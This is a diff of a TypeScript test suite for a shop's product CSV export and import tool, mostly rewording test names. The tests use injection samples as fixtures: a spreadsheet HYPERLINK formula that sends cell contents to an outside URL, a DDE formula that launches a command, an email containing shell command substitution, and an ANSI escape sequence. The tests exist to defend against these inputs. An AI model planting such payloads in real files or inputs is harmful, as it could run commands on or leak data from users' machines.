@@ -26,7 +26,7 @@ afterAll(async () => {
   await rm(folder, { recursive: true })
 })
 
-/** Names that a spreadsheet would run, and such as are near to them or hard to put into a cell. */
+/** Names that a spreadsheet would run, names close to them, and names that need quoting. */
 const hostile = [
   '=HYPERLINK("http://example.com/?x="&A1,"10 kΩ")',
   "=cmd|' /C calc'!A0",
@@ -44,7 +44,6 @@ const hostile = [
 
 const run = promisify(execFile)
 
-/** Runs the command as on a terminal. */
 async function command(...words: string[]) {
   return commandOn(shop.databaseUrl, ...words)
 }
@@ -77,13 +76,13 @@ describe('the file of an export', () => {
     expect(out).toContain(',0.25,10,1000,other,,,,active,,,unknown,unknown,,,,,\r\n')
   })
 
-  it('is imported without a change, whatever the names are', async () => {
+  it('is imported without a change, for any names', async () => {
     expect(await command('export', 'all.csv')).toMatchObject({ code: 0, out: '' })
     const outcome = await importProducts(shop.db, { file: join(folder, 'all.csv'), apply: true })
     expect(outcome).toMatchObject({ unchanged: hostile.length, changed: 0, added: 0, refused: 0 })
   })
 
-  it('leaves out what is off sale', async () => {
+  it('leaves out deleted products', async () => {
     const id = await stock(shop.db, { name: 'GONE' })
     await shop.db.query('UPDATE products SET archived_at = now() WHERE id = $1', [id])
     expect((await command('export')).out).not.toContain('GONE')
@@ -100,7 +99,7 @@ describe('the download', () => {
     expect(Buffer.from(await response.arrayBuffer()).toString()).toBe((await command('export')).out)
   })
 
-  it('is for nobody else', async () => {
+  it('is rejected for visitors and buyers', async () => {
     expect((await download()).status).toBe(401)
     const buyer = await signUp(shop.url)
     const refused = await download(buyer.token)
@@ -110,7 +109,7 @@ describe('the download', () => {
 })
 
 describe('the command', () => {
-  it('looks first, then imports', async () => {
+  it('shows a dry run, then imports', async () => {
     await writeFile(join(folder, 'new.csv'), `${HEADER}\nNEW,x,/drawings/led-5mm-red.svg,1,1,1\n`)
     const looked = await command('import', 'new.csv')
     expect(looked.code).toBe(0)
@@ -124,7 +123,7 @@ describe('the command', () => {
     expect((await command('import', 'new.csv')).out).toContain('has all of this already')
   })
 
-  it('shows how many stocks would be set, and how to keep them', async () => {
+  it('shows how many stocks it would set, and how to keep them', async () => {
     await stock(shop.db, { name: 'STALE' })
     await writeFile(join(folder, 'stale.csv'), `${HEADER}\nSTALE,x,/drawings/led-5mm-red.svg,1,1,7\n`)
     const { out } = await command('import', 'stale.csv')
@@ -133,7 +132,7 @@ describe('the command', () => {
     expect((await command('--help')).out).toContain('Leave the cell empty, or remove the column, to keep')
   })
 
-  it('prints what a shell takes as it was typed', async () => {
+  it('prints a command that a shell reads literally', async () => {
     const { email } = await signUpAdmin(shop)
     const as = `o'hara+$(id)-${email}`
     await shop.db.query('UPDATE users SET email = $1 WHERE email = $2', [as, email])
@@ -149,7 +148,7 @@ describe('the command', () => {
     }
   })
 
-  it('says what is refused without what a terminal would obey, and ends with 1', async () => {
+  it('shows refused lines without control characters, and exits with 1', async () => {
     await writeFile(join(folder, 'bad.csv'), `${HEADER}\n\u001b[31mRED,x,/drawings/led-5mm-red.svg,1,1,1\n`)
     const { code, out } = await command('import', 'bad.csv', '--apply')
     expect(code).toBe(1)
@@ -158,17 +157,17 @@ describe('the command', () => {
     expect(out).not.toContain('\u001b')
   })
 
-  it('ends with 1 when there is no such file, and with 2 when it is not understood', async () => {
+  it('exits with 1 if the file is missing, and with 2 for wrong arguments', async () => {
     expect(await command('import', 'nothing.csv')).toMatchObject({
       code: 1,
-      err: expect.stringContaining('There is no file'),
+      err: expect.stringContaining('File not found'),
     })
     for (const words of [[], ['remove'], ['import'], ['import', 'a', 'b'], ['export', '--apply'], ['--what']])
       expect((await command(...words)).code, words.join(' ')).toBe(2)
     expect(await command('--help')).toMatchObject({ code: 0, out: expect.stringContaining('--apply') })
   })
 
-  it('names the store that it works on, and explains that no server answers', async () => {
+  it('names its database, and explains a refused connection', async () => {
     const name = new URL(shop.databaseUrl).pathname.slice(1)
     expect((await command('export', 'named.csv')).err).toContain(`The store is in the database ${name} at `)
     const { code, err } = await commandOn(
@@ -181,7 +180,7 @@ describe('the command', () => {
     expect(err).not.toContain('copper-wire')
   })
 
-  it('leaves no half of a file', async () => {
+  it('leaves no partial file', async () => {
     await rm(join(folder, 'all.csv'), { force: true })
     await command('export', 'all.csv')
     expect(await readFile(join(folder, 'all.csv'), 'utf8')).toMatch(/\r\n$/)
